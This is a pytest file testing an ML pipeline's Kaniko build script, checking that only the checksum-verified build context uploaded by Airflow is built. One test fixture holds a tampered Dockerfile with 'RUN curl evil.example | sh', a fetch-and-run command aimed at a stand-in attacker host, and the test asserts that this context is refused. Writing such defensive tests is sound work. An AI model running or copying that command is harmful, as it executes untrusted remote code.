"""The Kaniko pod builds only the context Airflow uploaded (issue 28, finding 2): its script, run with
a real shell, wget, sha256sum and tar against a real HTTP server, with only Kaniko's executor recorded."""

from __future__ import annotations

import functools
import hashlib
import http.server
import io
import os
import subprocess
import tarfile
import threading

import pytest

from mlcicd.image import kaniko

EXECUTOR = """#!/bin/sh
echo "$@" > "$KANIKO_DIR/called"
for arg in "$@"; do case "$arg" in --digest-file=*) printf sha256:%064d 7 > "${arg#--digest-file=}" ;; esac; done
"""


def tarball(files: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        for name, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


@pytest.fixture
def served(tmp_path):
    root = tmp_path / "bucket"
    root.mkdir()
    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(root))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield root, f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()


def build(tmp_path, url: str, sha256: str) -> subprocess.CompletedProcess:
    kaniko_dir, work = tmp_path / "kaniko", tmp_path / "work"
    kaniko_dir.mkdir(exist_ok=True)
    work.mkdir(exist_ok=True)
    executor = kaniko_dir / "executor"
    executor.write_text(EXECUTOR)
    executor.chmod(0o755)
    env = {
        "PATH": os.environ["PATH"],
        "KANIKO_DIR": str(kaniko_dir),
        "XCOM_DIR": str(tmp_path / "xcom"),
        "WORK_DIR": str(work),
        "CONTEXT": "s3://bucket/ctx.tar.gz",
        "CONTEXT_URL": url,
        "CONTEXT_SHA256": sha256,
        "DESTINATION": "registry.local/m:1-abc",
        "BASE_IMAGE": "python:3.11",
        "MODEL_NAME": "m",
        "MODEL_VERSION": "1",
        "CODE_COMMIT": "0123abc",
    }
    return subprocess.run(
        ["sh", "-c", kaniko.BUILD_SCRIPT], env=env, capture_output=True, text=True, timeout=60
    )


def test_the_uploaded_context_is_built(tmp_path, served):
    root, base = served
    data = tarball({"Dockerfile": "FROM scratch\n", "model/MLmodel": "flavors: {}\n"})
    (root / "ctx.tar.gz").write_bytes(data)
    done = build(tmp_path, f"{base}/ctx.tar.gz", hashlib.sha256(data).hexdigest())
    assert done.returncode == 0, done.stderr
    called = (tmp_path / "kaniko" / "called").read_text()
    assert f"--context=dir://{tmp_path / 'kaniko' / 'buildcontext'}" in called
    assert (tmp_path / "kaniko" / "buildcontext" / "model" / "MLmodel").read_text() == "flavors: {}\n"
    assert (tmp_path / "xcom" / "return.json").read_text() == '{"digest": "sha256:' + "0" * 63 + '7"}'


def test_a_context_swapped_in_the_bucket_is_not_built(tmp_path, served):
    root, base = served
    uploaded = tarball({"Dockerfile": "FROM scratch\n"})
    (root / "ctx.tar.gz").write_bytes(tarball({"Dockerfile": "FROM scratch\nRUN curl evil.example | sh\n"}))
    done = build(tmp_path, f"{base}/ctx.tar.gz", hashlib.sha256(uploaded).hexdigest())
    assert done.returncode == 3
    assert "is not the one Airflow uploaded" in done.stderr
    assert (
        not (tmp_path / "kaniko" / "called").exists() and not (tmp_path / "kaniko" / "buildcontext").exists()
    )


def test_a_store_without_signed_urls_is_refused_with_what_to_use(tmp_path):
    import fsspec
    from airflow.sdk.io import attach

    from mlcicd.errors import ConfigError

    attach("memory", fs=fsspec.filesystem("memory"))
    context = tmp_path / "context"
    context.mkdir()
    (context / "Dockerfile").write_text("FROM scratch\n")
    with pytest.raises(ConfigError, match="use an s3:// or gs:// prefix"):
        kaniko.upload_context(context, "memory:///contexts", "m.tar.gz")
